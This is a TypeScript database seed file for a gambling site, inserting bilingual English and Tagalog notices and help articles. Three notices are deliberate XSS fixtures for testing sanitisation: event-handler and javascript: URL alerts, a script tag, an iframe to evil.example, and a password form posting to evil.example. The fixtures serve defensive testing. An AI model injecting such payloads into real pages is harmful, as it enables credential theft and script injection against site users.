import { merchants } from '../../merchants.ts';
import type { Db } from '../database.ts';
import { day, hour } from './random.ts';

type Notice = [type: string, titleEn: string, titleTy: string, contentEn: string, contentTy: string];

const notices: Notice[] = [
  [
    'B',
    'Scheduled maintenance on Sunday',
    'Nakatakdang maintenance sa Linggo',
    '<p>The site will be under maintenance on <strong>Sunday, 02:00–04:00</strong>. Deposits made during this time will be credited afterwards.</p>',
    '<p>Magkakaroon ng maintenance sa <strong>Linggo, 02:00–04:00</strong>. Ang mga depositong gagawin sa oras na ito ay maikredito pagkatapos.</p>',
  ],
  [
    'PL',
    'New GCash and Maya deposit channels',
    'Bagong deposit channel: GCash at Maya',
    '<p>Deposit instantly with <em>GCash</em> or <em>Maya</em>. Minimum deposit 100.</p><ul><li>No fees</li><li>Credited in under a minute</li></ul>',
    '<p>Mag-deposito agad gamit ang <em>GCash</em> o <em>Maya</em>. Pinakamababang deposito 100.</p><ul><li>Walang bayad</li><li>Naikredito sa loob ng isang minuto</li></ul>',
  ],
  [
    'PU',
    'Responsible gaming reminder',
    'Paalala tungkol sa responsableng paglalaro',
    '<p>Play for fun, set limits and take breaks. Players must be <strong>18 or older</strong>.</p>',
    '<p>Maglaro para sa saya, magtakda ng limitasyon at magpahinga. Ang mga manlalaro ay dapat <strong>18 taong gulang pataas</strong>.</p>',
  ],
  [
    'PR',
    'Weekend cashback is back',
    'Bumalik na ang weekend cashback',
    '<p>Get <strong>5% cashback</strong> on live casino losses every weekend. <a href="/promotions">See the promotion</a>.</p>',
    '<p>Makakuha ng <strong>5% cashback</strong> sa talo sa live casino tuwing weekend. <a href="/promotions">Tingnan ang promosyon</a>.</p>',
  ],
  [
    'H',
    'How to confirm a withdrawal',
    'Paano kumpirmahin ang withdrawal',
    '<p>After a payout, open <em>Withdrawal</em> and choose <strong>Received</strong>, <strong>Partly received</strong> or <strong>Not received</strong>.</p>',
    '<p>Pagkatapos ng payout, buksan ang <em>Withdrawal</em> at piliin ang <strong>Natanggap</strong>, <strong>Bahagyang natanggap</strong> o <strong>Hindi natanggap</strong>.</p>',
  ],
  // Hostile content, as a compromised back office could publish it: the site must sanitise it.
  [
    'B',
    'Important: verify your account',
    'Mahalaga: i-verify ang iyong account',
    '<p>Verify your account today.</p><img src="x" onerror="alert(\'notice-xss\')"><script>document.title = "owned"</script>',
    '<p>I-verify ang iyong account ngayon.</p><img src="x" onerror="alert(\'notice-xss\')"><script>document.title = "owned"</script>',
  ],
  [
    'PL',
    'Claim your loyalty gift',
    'Kunin ang iyong regalo sa katapatan',
    '<p><a href="javascript:alert(\'notice-xss\')">Claim now</a> before it expires.</p><iframe src="https://evil.example/frame"></iframe>',
    '<p><a href="javascript:alert(\'notice-xss\')">Kunin ngayon</a> bago ito mag-expire.</p><iframe src="https://evil.example/frame"></iframe>',
  ],
  [
    'PU',
    'Updated terms of service',
    'Na-update na mga tuntunin ng serbisyo',
    '<p style="background-image:url(javascript:alert(1))" onclick="alert(1)">Our terms were updated.</p><svg onload="alert(\'notice-xss\')"></svg><form action="https://evil.example"><input name="password"></form>',
    '<p style="background-image:url(javascript:alert(1))" onclick="alert(1)">Na-update ang aming mga tuntunin.</p><svg onload="alert(\'notice-xss\')"></svg><form action="https://evil.example"><input name="password"></form>',
  ],
];

type Article = [
  categoryEn: string,
  categoryTy: string,
  titleEn: string,
  titleTy: string,
  contentEn: string,
  contentTy: string,
];

const help: Article[] = [
  [
    'Account',
    'Account',
    'How do I register?',
    'Paano magparehistro?',
    '<p>Tap <strong>Register</strong>, choose username or mobile, fill in the fields and agree to the terms. You must be 18 or older.</p>',
    '<p>I-tap ang <strong>Magparehistro</strong>, pumili ng username o mobile, punan ang mga field at sumang-ayon sa mga tuntunin. Dapat ay 18 taong gulang ka pataas.</p>',
  ],
  [
    'Account',
    'Account',
    'I forgot my password',
    'Nakalimutan ko ang password ko',
    '<p>Use <em>Forgot password</em> on the login form. Reset by SMS code or by e-mail, whichever your site offers.</p>',
    '<p>Gamitin ang <em>Nakalimutan ang password</em> sa login form. Mag-reset gamit ang SMS code o e-mail, alinman ang inaalok ng site.</p>',
  ],
  [
    'Deposits and withdrawals',
    'Deposito at withdrawal',
    'How long does a deposit take?',
    'Gaano katagal ang deposito?',
    '<p>Most deposits are credited within one minute. Bank transfers can take up to 15 minutes.</p>',
    '<p>Karamihan ng deposito ay naikredito sa loob ng isang minuto. Ang bank transfer ay maaaring umabot ng 15 minuto.</p>',
  ],
  [
    'Deposits and withdrawals',
    'Deposito at withdrawal',
    'Confirming a withdrawal',
    'Pagkumpirma ng withdrawal',
    '<p>After a payout, confirm whether you received it. Without a confirmation in time, it counts as received.</p>',
    '<p>Pagkatapos ng payout, kumpirmahin kung natanggap mo ito. Kapag walang kumpirmasyon sa takdang oras, ituturing itong natanggap.</p>',
  ],
  [
    'Games',
    'Mga laro',
    'What is free play?',
    'Ano ang free play?',
    '<p>Free play opens a trial account with demo credits. Trial accounts cannot deposit or withdraw.</p>',
    '<p>Ang free play ay nagbubukas ng trial account na may demo credit. Hindi makakapag-deposito o withdraw ang trial account.</p>',
  ],
  [
    'Games',
    'Mga laro',
    'A game will not load',
    'Ayaw mag-load ng laro',
    '<p>Allow pop-ups for this site, check your connection and try again. Contact support if it continues.</p>',
    '<p>Payagan ang mga pop-up sa site na ito, suriin ang koneksyon at subukang muli. Makipag-ugnayan sa support kung magpapatuloy.</p>',
  ],
  [
    'Security',
    'Seguridad',
    'Keeping your account safe',
    'Pag-iingat sa iyong account',
    '<p>Never share your password or SMS code. Our staff will never ask for them.</p>',
    '<p>Huwag kailanman ibahagi ang iyong password o SMS code. Hindi ito hihingin ng aming staff.</p>',
  ],
  [
    'Security',
    'Seguridad',
    'Why must I change my password?',
    'Bakit kailangan kong palitan ang password?',
    '<p>A default or expired password must be changed before you continue, to protect your balance.</p>',
    '<p>Kailangang palitan ang default o expired na password bago magpatuloy, para protektahan ang iyong balanse.</p>',
  ],
];

export function seedNotices(db: Db, now: number) {
  const insert = db.prepare(
    `INSERT INTO notices (merchant, type, title_en, title_ty, content_en, content_ty, created_at) VALUES (?, ?, ?, ?, ?, ?, ?)`,
  );
  for (const merchant of merchants) {
    notices.forEach(([type, titleEn, titleTy, contentEn, contentTy], index) =>
      insert.run(merchant.code, type, titleEn, titleTy, contentEn, contentTy, now - index * day - 3 * hour),
    );
  }
  const insertArticle = db.prepare(
    `INSERT INTO help_articles (category_en, category_ty, title_en, title_ty, content_en, content_ty, sort) VALUES (?, ?, ?, ?, ?, ?, ?)`,
  );
  help.forEach((article, index) => insertArticle.run(...article, index));
}
